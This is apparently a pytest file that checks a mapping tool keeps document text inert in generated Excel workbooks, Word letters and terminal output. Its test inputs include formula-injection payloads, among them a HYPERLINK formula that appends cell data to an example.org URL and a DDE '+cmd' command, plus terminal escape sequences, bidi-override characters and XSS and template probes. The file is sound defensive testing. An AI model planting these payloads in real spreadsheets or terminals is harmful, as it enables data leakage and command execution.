"""What a document says stays text: in workbooks, letters, tables for other programs, terminals."""

import io
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from docx import Document

from api.console import flags, printable, stdout
from evaluation.fuzz import samples
from foundation.errors import UnreadableInputError
from mapper.mapping import Mapping
from mapper.review.check import check_claims
from mapper.review.export import review_workbook
from mapper.review.letter import outcome_letter
from mapper.review.outcome import open_review
from mapper.workbook.codes import find_codes, parse_code, split_code
from mapper.workbook.outline import outline_bytes
from mapper.workbook.read import read_workbook
from mapper.workbook.template import fill_template
from mapper.workbook.write import workbook_bytes

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see here")'
EVIL = (
    FORMULA,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "\x1b]0;owned\x07=1",
    "3\u202e0 hours",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "[/bold][link=http://example.org]x[/link]",
    "]]></t><f>1+1</f>",
)


def evil_mapping(text: str) -> Mapping:
    """The sample mapping with `text` wherever a document or a standard puts words."""
    told = samples.mapping().model_dump(mode="json")

    def changed(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {name: changed(one, name) for name, one in value.items()}
        if isinstance(value, list):
            return [changed(one, key) for one in value]
        free = {"text", "statement", "rationale", "title", "link", "name", "message"}
        return text if key in free and isinstance(value, str) else value

    return Mapping.model_validate(changed(told))


def formulas(content: bytes) -> set[str]:
    """Every formula of a workbook, as Excel would run it."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


@pytest.mark.parametrize("text", EVIL)
def test_a_mapping_workbook_holds_no_formula_of_a_document(text: str) -> None:
    ours = formulas(workbook_bytes(samples.mapping()))
    assert formulas(workbook_bytes(evil_mapping(text))) == ours


def test_outline_and_filled_template_hold_no_formula_of_a_document(tmp_path: Path) -> None:
    read = samples.specification()
    read.units[0].title = FORMULA
    read.units[0].outcomes[0].criteria[0].text = FORMULA
    assert formulas(outline_bytes(read)) == formulas(outline_bytes(samples.specification()))
    template = tmp_path / "template.xlsx"
    template.write_bytes(samples.foreign_workbook())
    fill_template(evil_mapping(FORMULA), template, tmp_path / "filled.xlsx")
    assert formulas((tmp_path / "filled.xlsx").read_bytes()) == formulas(template.read_bytes())


def test_review_workbook_and_letter_show_texts_as_texts(evil_report: Any, tmp_path: Path) -> None:
    now = datetime(2026, 11, 24, tzinfo=UTC)
    review = open_review(evil_report, [FORMULA], now)
    assert FORMULA not in formulas(review_workbook(evil_report, review))
    letter = outcome_letter(evil_report, review, on=now.date())
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        body = archive.read("word/document.xml").decode()
    assert "<w:fldSimple" not in body
    assert "<w:instrText" not in body
    assert "\u202e" not in body
    assert Document(io.BytesIO(letter)).paragraphs


@pytest.fixture
def evil_report() -> Any:
    from mapper.claims import Claims, StatementClaim
    from mapper.request import Request
    from tests.mapper.review.conftest import StubMatcher

    claims = Claims(
        file=f"{FORMULA}.xlsx",
        statements=[
            StatementClaim(
                sheet="x", row=2, code="K1", statement=FORMULA, references=f"101/1.1 {FORMULA}",
                rationale="\u202e" + FORMULA,
            )
        ],
    )  # fmt: skip
    standard = samples.standard()
    evil = standard.model_copy(
        update={
            "title": FORMULA,
            "statements": tuple(
                one.model_copy(update={"text": FORMULA}) for one in standard.statements
            ),
        }
    )
    matcher: Any = StubMatcher({})
    return check_claims(samples.specification(), Request(standard=evil), claims, matcher)


def test_marks_that_turn_writing_do_not_reach_a_cell() -> None:
    content = workbook_bytes(evil_mapping("3\u202e0 hours\u202c"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any("\u202e".encode() in archive.read(name) for name in archive.namelist())


def test_a_terminal_is_not_steered_by_what_it_is_shown(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from rich.table import Table
    from rich.text import Text

    flags.quiet = False
    table = Table("Name")
    for text in EVIL:
        table.add_row(text)
        table.add_row(Text(text))
    stdout().print(table)
    stdout().print("[bold]\x1b[2J[/nothing]")
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "[bold]\ufffd[2J[/nothing]" in shown
    assert printable("a\x1b[31m\x9b\u2066b\tc\n") == "a\ufffd[31m\ufffd\ufffdb\tc\n"


def test_an_error_does_not_steer_the_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from api import cli

    monkeypatch.setattr(sys, "argv", ["mapper", "read", str(tmp_path / "a\x1b[2Jb.pdf")])
    with pytest.raises(SystemExit) as stop:
        cli.main()
    assert stop.value.code == 3
    told = capsys.readouterr().err
    assert "a\ufffd[2Jb.pdf: there is no such file" in told
    assert "\x1b" not in told


@pytest.mark.parametrize(
    ("written", "code"),
    [
        ("К1", "K1"),  # Cyrillic
        ("Κ1", "K1"),  # Greek
        ("Ѕ2", "S2"),
        ("В3", "B3"),
        ("Ｋ１", "K1"),  # wide
        ("K\u200b1", "K1"),
        ("\u202eK1\u202c", "K1"),
        ("\ufeffK1", "K1"),
        ("K²", None),  # a note, not a code
        ("Ж1", None),
    ],
)
def test_codes_are_what_a_reader_sees(written: str, code: str | None) -> None:
    assert parse_code(written) == code
    assert find_codes(written) == ([code] if code else [])


def test_a_statement_keeps_its_own_letters_behind_a_code() -> None:
    found = split_code("К1: Καλή оценка")
    assert found is not None
    assert (found.code, found.text) == ("K1", "Καλή оценка")


def test_a_workbook_with_homoglyph_codes_claims_what_it_shows(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(samples.foreign_workbook()))
    book["Mapping"]["A4"] = "К1"
    path = tmp_path / "claims.xlsx"
    book.save(path)
    assert [one.code for one in read_workbook(path).statements] == ["K1", "K2", "S1", "B1"]


def test_errors_about_a_file_are_sentences_whatever_is_in_it(tmp_path: Path) -> None:
    from mapper.table_file import read_table

    path = tmp_path / "table.csv"
    path.write_text("a,b\n\x1b[2J,\u202e\n")
    with pytest.raises(UnreadableInputError) as caught:
        read_table(path, {"reference": ()}, required=("reference",))
    assert str(caught.value).isprintable()
